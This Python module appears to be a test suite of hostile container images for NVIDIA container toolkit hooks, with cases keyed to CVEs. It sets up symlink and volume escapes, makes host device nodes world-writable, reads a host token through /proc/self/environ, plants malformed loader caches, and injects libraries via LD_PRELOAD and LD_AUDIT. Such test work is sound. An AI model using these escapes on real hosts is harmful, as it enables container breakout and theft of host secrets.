"""Hostile images: what their root file systems hold, and which hooks they wait for.

Each attack fills a world and returns the arguments of the hooks to run. WAYS says by which of the runners it can be
tried; the careless double must fall for it by each of them.
"""

import os
import stat
import struct

from world import SECRET

DIRECT, ROOTLESS = "directly", "rootless"
RUNC, RUNC_USER, RUNC_ROOTLESS = "by_runc", "by_runc_in_user_namespace", "by_rootless_runc"
CRUN, CRUN_USER, CRUN_ROOTLESS = "by_crun", "by_crun_in_user_namespace", "by_rootless_crun"
BY_CRUN = (CRUN, CRUN_USER, CRUN_ROOTLESS)
BY_RUNTIME = (RUNC, RUNC_USER, RUNC_ROOTLESS, *BY_CRUN)
BUT_CRUN = (DIRECT, ROOTLESS, RUNC, RUNC_USER, RUNC_ROOTLESS)
ALL = (DIRECT, ROOTLESS, *BY_RUNTIME)
ATTACKS = []

LINKS = ["create-symlinks", "--link", "target::/usr/lib/driver/mark"]
CACHE = ["update-ldcache", "--folder", "/usr/lib/driver"]
COMPAT = ["enable-cuda-compat", "--host-driver-version=580.95.05"]
PROFILE = ["update-application-profile"]
CHMOD = ["chmod", "--mode=755", "--path=/dev/nvidia-caps"]
OPEN = ["chmod", "--mode=666", "--path=/opt/nvidia-device"]  # in a folder that no runtime mounts over
PARAMS = ["disable-device-node-modification"]


def attack(*ways, advisories=""):
    def register(function):
        function.ways = ways or ALL
        function.advisories = advisories
        ATTACKS.append(function)
        return function
    return register


# Links as targets of what is written.

@attack(advisories="CVE-2024-0133, CVE-2024-0134, CVE-2025-23267")
def the_folder_is_an_absolute_link(w):
    w.link("/etc", w.outside)
    return [CACHE, COMPAT]


@attack(advisories="CVE-2024-0133, CVE-2024-0134")
def the_folder_is_a_relative_link(w):
    w.link("/usr/lib/driver", w.up("/folder"))
    return [LINKS]


@attack(advisories="CVE-2024-0133")
def links_lead_over_links(w):
    w.link("/usr/lib/driver", "../../a/b")
    w.link("/a", "c")
    w.link("/c/b", w.up(""))
    return [LINKS]


@attack(advisories="CVE-2024-0134, CVE-2025-23267")
def the_loaders_configuration_folder_is_a_link(w):
    w.link("/etc/ld.so.conf.d", w.outside)
    return [CACHE, COMPAT]


@attack(advisories="CVE-2025-23267")
def the_cache_is_a_link_to_a_file(w):
    w.link("/etc/ld.so.cache", w.outside / "secret")
    return [CACHE]


@attack(advisories="CVE-2024-0134")
def the_cache_is_a_link_to_a_file_that_is_not_there(w):
    w.link("/etc/ld.so.cache", w.up("/created"))
    return [CACHE]


@attack(DIRECT, advisories="CVE-2024-0134")
def the_application_profile_is_a_link(w):
    os.mknod(w.at("/dev/nvidia0"), stat.S_IFCHR | 0o666, os.makedev(1, 3))
    w.link("/etc/nvidia/nvidia-application-profiles-rc.d/10-container.conf", w.outside / "secret")
    return [PROFILE]


@attack(DIRECT, ROOTLESS, advisories="CVE-2024-0133")
def a_mode_is_changed_through_a_link(w):
    w.link("/dev/nvidia-caps", w.outside / "folder")
    return [CHMOD]


# Programs of the host in the place of what is written.

@attack(advisories="CVE-2024-0135")
def a_program_of_the_host_is_behind_the_cache(w):
    w.link("/etc/ld.so.cache", w.outside / "program")
    return [CACHE]


@attack(advisories="CVE-2024-0135")
def a_program_of_the_host_is_behind_a_library(w):
    """What is written is of the image's own choice."""
    w.write("/usr/local/cuda/compat/libcuda.so.999.1", "#!/bin/sh\n: of the image\n")
    w.link("/usr/lib/libcuda.so.999.1", w.up("/program"))
    return [COMPAT]


@attack(advisories="CVE-2024-0135")
def a_link_takes_the_place_of_a_program_of_the_host(w):
    w.link("/opt/bin", w.outside)
    return [["create-symlinks", "--link", "/bin/of-the-image::/opt/bin/program"]]


@attack(DIRECT, *BY_RUNTIME, advisories="CVE-2024-0135")
def a_link_takes_the_place_of_a_program_on_a_volume(w):
    w.volumes = [(w.outside, "/opt/bin")]
    return [["create-symlinks", "--link", "/bin/of-the-image::/opt/bin/program"]]


# Device nodes of the host. What a container may read and write there its runtime has said, with modes and rules: who
# can change a mode or a node outside has more than that.

def disk_of_the_host(w):
    disk = w.outside / "disk"
    os.mknod(disk, stat.S_IFCHR | 0o600, os.makedev(511, 7))  # of no driver
    return disk


@attack(advisories="CVE-2024-0136")
def a_device_of_the_host_is_behind_a_device_of_the_image(w):
    w.link("/opt/nvidia-device", disk_of_the_host(w))
    return [OPEN]


@attack(advisories="CVE-2024-0136")
def a_device_of_the_host_is_behind_a_folder_of_devices(w):
    disk_of_the_host(w)
    w.link("/opt", w.up(""))
    return [["chmod", "--mode=666", "--path=/opt/disk"]]


@attack(DIRECT, *BY_RUNTIME, advisories="CVE-2024-0136")
def a_device_of_the_host_lies_on_a_volume(w):
    disk_of_the_host(w)
    w.volumes = [(w.outside, "/opt")]
    return [["chmod", "--mode=666", "--path=/opt/disk"]]


@attack(DIRECT, advisories="CVE-2024-0136")
def a_device_of_the_host_lies_on_a_volume_in_the_place_of_dev(w):
    disk_of_the_host(w)
    w.volumes = [(w.outside, "/dev")]
    return [["chmod", "--mode=666", "--path=/dev/disk"]]


@attack(advisories="CVE-2024-0136")
def a_link_takes_the_place_of_a_device_of_the_host(w):
    disk_of_the_host(w)
    w.link("/opt", w.outside)
    return [["create-symlinks", "--link", "/of-the-image::/opt/disk"]]


# Programs of the image. A hook that starts before the container has its own network is in the host's.

@attack(DIRECT, ROOTLESS, RUNC, CRUN, advisories="CVE-2024-0137")
def the_program_that_writes_caches_is_the_images(w):
    w.phase = "createRuntime"
    w.write("/home-of-the-attacker", w.home_name)
    w.write("/sbin/ldconfig", w.program.read_bytes()).chmod(0o755)
    return [CACHE]


# The driver's parameters, over which one hook mounts.

@attack(DIRECT)
def the_parameters_are_a_link(w):
    (w.outside / "params").write_text("x")
    w.has_proc = True

    def change(driver):
        (driver / "nvidia/params").unlink()
        (driver / "nvidia/params").symlink_to(w.outside / "params")
    w.params = change
    return [PARAMS]


@attack(DIRECT)
def the_folder_of_the_parameters_is_a_link(w):
    (w.outside / "nvidia").mkdir()
    (w.outside / "nvidia/params").write_text("x")
    w.has_proc = True

    def change(driver):
        (driver / "nvidia").rename(driver / "other")
        (driver / "nvidia").symlink_to(w.outside / "nvidia")
    w.params = change
    return [PARAMS]


def nothing_more(_):
    pass


@attack(DIRECT)
def the_process_file_system_is_a_link(w):
    (w.outside / "driver/nvidia").mkdir(parents=True)
    (w.outside / "driver/nvidia/params").write_text("x")
    w.link("/proc", w.up(""))
    w.params = nothing_more
    return [PARAMS]


@attack(DIRECT)
def a_volume_is_the_process_file_system(w):
    """What is mounted there the host has, too."""
    (w.outside / "driver/nvidia").mkdir(parents=True)
    (w.outside / "driver/nvidia/params").write_text("x")
    w.volumes, w.shared = [(w.outside, "/proc")], True
    w.params = nothing_more
    return [PARAMS]


@attack(DIRECT)
def the_file_that_covers_the_parameters_is_a_link(w):
    w.link("/run/params", w.outside / "secret")
    w.has_proc = True
    w.params = nothing_more
    return [PARAMS]


# Links as sources of what is read.

@attack(advisories="CVE-2024-0132, CVE-2025-23359")
def the_compatibility_folder_is_an_absolute_link(w):
    w.link("/usr/local/cuda/compat", w.outside)
    return [COMPAT]


@attack(advisories="CVE-2024-0132, CVE-2025-23359")
def the_compatibility_folder_is_a_relative_link(w):
    w.link("/usr/local/cuda", "cuda-13")
    w.link("/usr/local/cuda-13/compat", w.up(""))
    return [COMPAT]


@attack(advisories="CVE-2024-0132")
def the_compatibility_library_is_a_link(w):
    w.link("/usr/local/cuda/compat/libcuda.so.999.1", w.up("/libcuda.so.999.1"))
    return [COMPAT]


@attack(advisories="CVE-2024-0132")
def the_musl_path_file_is_a_link(w):
    w.write("/etc/alpine-release", "3.20\n")
    w.link("/etc/ld-musl-x86_64.path", w.outside / "secret")
    return [CACHE]


# /proc and /dev.

@attack(advisories="CVE-2024-0132, CVE-2025-23359")
def the_way_out_is_the_root_of_a_process(w):
    w.has_proc = True
    w.link("/etc", f"/proc/self/root{w.outside}")
    return [CACHE]


@attack(DIRECT, ROOTLESS)
def the_way_out_is_the_working_folder_of_a_process(w):
    w.has_proc = True
    w.working_folder = w.outside
    w.link("/usr/lib/driver", "/proc/self/cwd")
    return [LINKS]


@attack(DIRECT, ROOTLESS)
def the_way_out_is_a_file_that_the_hook_inherits(w):
    w.has_proc = True
    inherited = os.open(w.outside / "secret", os.O_RDWR)
    w.descriptors = (inherited,)
    w.link("/etc/ld.so.cache", f"/proc/self/fd/{inherited}")
    return [CACHE]


@attack(DIRECT)
def what_the_kernel_tells_of_the_hook_is_copied(w):
    w.has_proc = True
    w.environment = {"TOKEN_OF_THE_HOST": SECRET}
    w.write("/etc/alpine-release", "3.20\n")
    w.link("/etc/ld-musl-x86_64.path", "/proc/self/environ")
    return [CACHE]


@attack(DIRECT, RUNC, CRUN)
def the_loaders_configuration_is_a_pipe(w):
    os.mkfifo(w.at("/etc/ld.so.conf"))
    return [CACHE]


@attack(DIRECT, RUNC, CRUN)
def the_cache_is_a_device_without_end(w):
    os.mknod(w.at("/etc/ld.so.cache"), stat.S_IFCHR | 0o666, os.makedev(1, 5))
    return [CACHE]


# Volumes: they may be the host's, or another tenant's.

@attack(DIRECT, *BY_RUNTIME)
def a_volume_lies_over_the_folder(w):
    w.volumes = [(w.outside, "/etc")]
    return [CACHE, COMPAT]


@attack(DIRECT, *BY_RUNTIME)
def a_volume_lies_over_the_file(w):
    w.write("/etc/ld.so.cache", "")
    w.volumes = [(w.outside / "secret", "/etc/ld.so.cache")]
    return [CACHE]


@attack(DIRECT, *BY_RUNTIME)
def a_link_leads_to_a_volume(w):
    w.volumes = [(w.outside, "/data")]
    w.link("/usr/lib/driver", "../../data/folder")
    w.link("/etc/ld.so.conf.d", "../data")
    return [LINKS, CACHE, COMPAT]


@attack(DIRECT)
def a_mode_is_changed_on_a_volume(w):
    w.volumes = [(w.outside, "/data")]
    w.link("/dev/nvidia-caps", "../data/folder")
    return [CHMOD]


# Loader files that break or hold up who reads them.

def cache_file(count, offsets, strings):
    header = b"glibc-ld.so.cache1.1" + struct.pack("<II", count, len(strings)) + bytes(20)
    return header + b"".join(struct.pack("<iIIIQ", 0x303, name, path, 0, 0) for name, path in offsets) + strings


@attack(DIRECT, ROOTLESS)
def the_cache_points_outside_itself(w):
    w.write("/etc/ld.so.cache", cache_file(1, [(0xfffffff0, 0xfffffff0)], b"libx.so\0"))
    return [CACHE]


@attack(DIRECT, ROOTLESS)
def the_cache_says_that_it_has_four_thousand_million_entries(w):
    w.write("/etc/ld.so.cache", cache_file(0xffffffff, [(72, 72)], b"libx.so\0"))
    return [CACHE]


@attack(DIRECT, ROOTLESS)
def the_loaders_configuration_includes_itself(w):
    w.write("/etc/ld.so.conf", "include /etc/ld.so.conf\n")
    return [CACHE]


@attack(DIRECT, ROOTLESS)
def the_loaders_configuration_grows_with_every_step(w):
    for step in range(12):
        lines = "".join(f"include /etc/ld.so.conf.d/{step + 1}-*.conf\n" for _ in range(2))
        for one in range(6):
            w.write(f"/etc/ld.so.conf.d/{step}-{one}.conf", lines)
    w.write("/etc/ld.so.conf", "include /etc/ld.so.conf.d/0-*.conf\n")
    return [CACHE]


# Roots that are none.

@attack(DIRECT, ROOTLESS)
def the_root_is_a_link(w):
    os.symlink(w.outside, w.bundle / "link")
    w.state_root = str(w.bundle / "link")
    return [LINKS, CACHE]


@attack(DIRECT, ROOTLESS)
def the_root_is_a_link_with_something_behind_it(w):
    os.symlink(w.outside, w.bundle / "link")
    w.state_root = f"{w.bundle}/link/."
    return [LINKS, CACHE]


@attack(DIRECT, ROOTLESS)
def the_root_is_the_hosts_by_another_name(w):
    w.state_root = "/proc/self/root/"
    return [["create-symlinks", "--link", f"target::{w.outside}/mark"]]


@attack(DIRECT)
def the_root_is_the_hosts_mounted_again(w):
    assert os.stat("/").st_dev == w.folder.stat().st_dev, "/var/tmp is a file system of its own here"
    w.volumes = [(w.folder.__class__("/"), "/")]
    return [["create-symlinks", "--link", f"target::{w.outside}/mark"]]


# Variables of the container's that its image has chosen: crun gives them to no hook.

def library_of_the_image(w, name="attack.so"):
    w.write(f"/{name}", w.library.read_bytes()).chmod(0o755)
    w.environment["ATTACK_MARK"] = str(w.outside / "mark")


@attack(*BUT_CRUN, advisories="CVE-2025-23266")
def a_library_is_loaded_first(w):
    library_of_the_image(w)
    w.environment["LD_PRELOAD"] = "/proc/self/cwd/attack.so"
    return [LINKS]


@attack(*BUT_CRUN, advisories="CVE-2025-23266")
def a_library_watches_the_loader(w):
    library_of_the_image(w)
    w.environment["LD_AUDIT"] = "/proc/self/cwd/attack.so"
    return [LINKS]


@attack(*BUT_CRUN, advisories="CVE-2025-23266")
def a_library_takes_the_place_of_another(w):
    library_of_the_image(w, "libnaive_dependency.so")
    w.environment["LD_LIBRARY_PATH"] = "/proc/self/cwd"
    return [LINKS]


@attack(*BUT_CRUN, advisories="CVE-2025-23266")
def a_configuration_of_the_image_is_named(w):
    w.write("/config.toml", f'[nvidia-container-runtime]\ndebug = "{w.outside}/mark"\n')
    w.environment["NVIDIA_CTK_CONFIG_FILE_PATH"] = "/proc/self/cwd/config.toml"
    w.environment["XDG_CONFIG_HOME"] = "/proc/self/cwd"
    return [LINKS, CACHE]
